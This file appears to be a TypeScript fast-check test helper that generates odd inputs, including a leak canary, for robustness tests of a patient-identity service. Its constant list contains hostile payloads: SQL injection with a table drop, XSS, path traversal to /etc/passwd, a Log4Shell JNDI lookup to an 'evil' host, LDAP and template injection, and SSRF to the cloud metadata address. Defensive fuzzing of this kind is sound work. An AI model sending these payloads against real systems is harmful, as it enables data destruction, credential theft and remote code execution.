import fc from 'fast-check';

/** Lies in what is sent, and must not come back in a refusal, in a header or in the log. */
export const canary = 'zq7canary7qz';

const texts = [
  '',
  ' ',
  '\u0000',
  '\r\nSet-Cookie: x=1',
  "' or 1=1 --",
  '"; drop table identity.patient; --',
  '<script>alert(1)</script>',
  '../../etc/passwd',
  '..%2f..%2f',
  '${7*7}',
  '{{7*7}}',
  '*)(uid=*',
  '${jndi:ldap://evil/x}',
  '%s%n',
  '\ud800',
  '\u202e',
  '\u200b\u2060',
  '＋１２１２',
  '+1212;ext=5',
  '+12125550123\r\n',
  'NaN',
  '1e400',
  '-1',
  '2147483648',
  '9223372036854775808',
  'null',
  'true',
  '[]',
  '__proto__',
  'constructor',
  'a'.repeat(5_000),
  '😀'.repeat(500),
  'e\u0301'.repeat(200),
  '0198f0c4-7a11-7c3e-9d52-5b1f0c6a7e21',
  '00000000-0000-0000-0000-000000000000',
  '2026-02-30',
  '0001-01-01T00:00:00Z',
  '+275760-09-13T00:00:00.001Z',
  'https://evil.example',
  'http://169.254.169.254/latest/meta-data',
  'javascript:alert(1)',
  'a@b@c',
];

export const oddText: fc.Arbitrary<string> = fc
  .oneof(fc.constantFrom(...texts), fc.string({ unit: 'binary', maxLength: 50 }))
  .chain((text) => fc.constantFrom(text, `${text}${canary}`, `${canary}${text}`));

const oddNumber = fc.oneof(
  fc.constantFrom(0, -0, -1, 0.1, 2 ** 31, 2 ** 31 - 1, 2 ** 53, -(2 ** 63), 1e308, 5e-324),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

/** Nested further than any input of ours, but not beyond what a parser takes. */
const deep = fc.nat({ max: 200 }).map((depth) => {
  let value: unknown = 1;
  for (let level = 0; level < depth; level += 1) value = level % 2 ? { a: value } : [value];
  return value;
});

export const oddJson: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 5, arbitrary: oddText },
  { weight: 2, arbitrary: oddNumber },
  { weight: 2, arbitrary: fc.constantFrom(null, true, false, [], {}, [[]], [null], '') },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 1, arbitrary: deep },
  { weight: 1, arbitrary: fc.constant(Array.from({ length: 500 }, (_, n) => n)) },
);

/** What an address may hold: half a surrogate pair is none of it. */
export const oddSegment: fc.Arbitrary<string> = oddText.map(
  (text) => encodeURIComponent(Buffer.from(text).toString()) || '%20',
);
